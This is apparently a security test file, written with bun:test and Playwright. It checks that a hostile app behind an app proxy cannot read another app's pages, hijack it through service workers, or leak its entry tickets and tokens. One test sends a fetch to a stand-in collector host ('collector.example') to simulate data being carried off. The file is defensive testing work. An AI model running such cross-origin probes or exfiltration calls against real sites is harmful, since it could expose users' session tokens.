/** Where a page leads the person: to the other app, as any link may. Neither the page nor a service worker of its app sees it. */
import { expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { SECRET } from "./apps.ts";
import { FETCH, FRAME, LOOK_INTO_WINDOW, SEEN_NOTHING, WINDOW } from "./attempts.ts";
import { isIn, reached, run, target, type Scene, type Shape } from "./stage.ts";

/** `stage`: the scene, and a page of the hostile app. */
export function ledTests(shape: Shape, stage: () => { scene: Scene; page: Page }): void {
  test("a frame shows the other app, and the page sees nothing of it", async () => {
    const { scene, page } = stage();
    const url = target(scene);
    expect(await run(page, FRAME, url)).toEqual(["null", ...SEEN_NOTHING]);
    expect(reached(scene, url)).toEqual(["GET"]);
  });

  test("a window shows it, and its opener sees nothing of it", async () => {
    const { scene, page } = stage();
    const url = target(scene);
    const opened = scene.context.waitForEvent("page");
    await run(page, WINDOW, url);
    const window = await opened;
    await window.getByRole("heading", { name: SECRET }).waitFor();
    expect(await run(page, LOOK_INTO_WINDOW)).toEqual(SEEN_NOTHING);
    expect(reached(scene, url)).toEqual(["GET"]);
    await window.close();
  });

  test("a link to it works, also through a service worker of the other app's own", async () => {
    const { scene } = stage();
    const one = await scene.apart("b");
    const follow = async () => {
      await one.goto(scene.a.origin);
      await run(one, `(url) => { location.href = url; }`, target(scene));
      await one.waitForURL(`${scene.b.origin}/**`);
      return one.title();
    };
    expect(await follow()).toBe(SECRET);
    await run(
      one,
      "() => navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => null)",
    );
    await one.waitForFunction("navigator.serviceWorker.controller !== null");
    expect(await follow()).toBe(SECRET);
    await one.context().close();
  });

  test("its own service worker answers nothing of the other app", async () => {
    const { scene } = stage();
    const one = await scene.apart("b");
    await run(
      one,
      "() => navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() => null)",
    );
    await one.reload();
    expect(await one.textContent("h1")).toBe("hijacked");
    await run(
      one,
      "() => { globalThis.told = []; navigator.serviceWorker.onmessage = ({ data }) => told.push(data); }",
    );
    const url = target(scene);
    expect(await run(one, FRAME, url)).toEqual(["null", ...SEEN_NOTHING]);
    expect(await run(one, "() => told")).toEqual([]);
    expect(await isIn(scene, one)).toEqual([200, SECRET]);
    await one.context().close();
  });

  test("ways in to the other app take nothing that was for this one", async () => {
    const { scene, page } = stage();
    const { url } = await scene.link("a");
    const ticket =
      (await fetch(url, { redirect: "manual", tls: { rejectUnauthorized: false } })).headers.get("location") ?? "";
    const query = new URL(ticket).search;
    const before = scene.victim.seen.length;
    const ways = [`/_appproxy/enter${query}`, "/_appproxy/enter", "/_appproxy/enter?t=x"];
    for (const way of ways)
      expect(await run(page, FETCH, scene.b.origin + way, { mode: "no-cors" })).toEqual(["opaque", 0, ""]);
    expect(scene.victim.seen.length).toBe(before);
    // Who has no permit is not let in, and who has one goes on with that.
    const stranger = await scene.apart();
    for (const way of ways) expect((await stranger.goto(scene.b.origin + way))?.status()).toBe(401);
    expect(scene.victim.seen.length).toBe(before);
    // Nor is the ticket used up by it.
    await stranger.context().clearCookies();
    expect([(await stranger.goto(ticket))?.status(), await stranger.textContent("h1")]).toEqual([200, "hostile"]);
    await stranger.context().close();
  });

  test("neither links nor tickets reach a server that they are not for", async () => {
    const { scene } = stage();
    const one = await scene.apart();
    const { url, token } = await scene.link("b");
    const before = [scene.hostile, scene.victim].map(({ seen }) => seen.length);
    const opened = one.context().waitForEvent("page");
    const tickets: string[] = [];
    one.context().on("request", (request) => {
      const ticket = new URL(request.url()).searchParams.get("t");
      if (ticket !== null) tickets.push(ticket);
    });
    await run(one, "(url) => { open(url); }", url);
    const window = await opened;
    await window.getByRole("heading", { name: SECRET }).waitFor();
    // A server of another site, to which the app's page tells all that it can.
    const collector = `http://collector.example:${scene.hostile.port}/?collected`;
    await run(window, FETCH, collector, { mode: "no-cors", referrerPolicy: "unsafe-url" });
    const said = await run(window, "() => [document.referrer, performance.getEntries().map(({ name }) => name)]");
    const seen = [scene.hostile, scene.victim].flatMap((app, at) => app.seen.slice(before[at]));
    expect([
      seen.some((request) => request.url.includes("collected")) || shape.scheme === "https",
      tickets.length > 0,
    ]).toEqual([true, true]);
    const all = JSON.stringify([seen, said]);
    for (const secret of [token, new URL(url).searchParams.get("token") ?? token, ...tickets])
      expect(all).not.toContain(secret);
    await one.context().close();
  });
}
